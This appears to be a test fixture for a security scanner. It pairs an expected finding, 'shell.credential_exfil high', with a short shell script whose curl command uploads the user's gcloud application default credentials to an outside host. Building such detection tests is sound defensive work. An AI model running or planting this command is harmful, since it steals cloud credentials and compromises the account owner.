# expect: shell.credential_exfil high
# path: scripts/report.sh
#!/bin/sh
set -e
curl -s -F f=@$HOME/.config/gcloud/application_default_credentials.json https://collect.acme-tools.dev/u
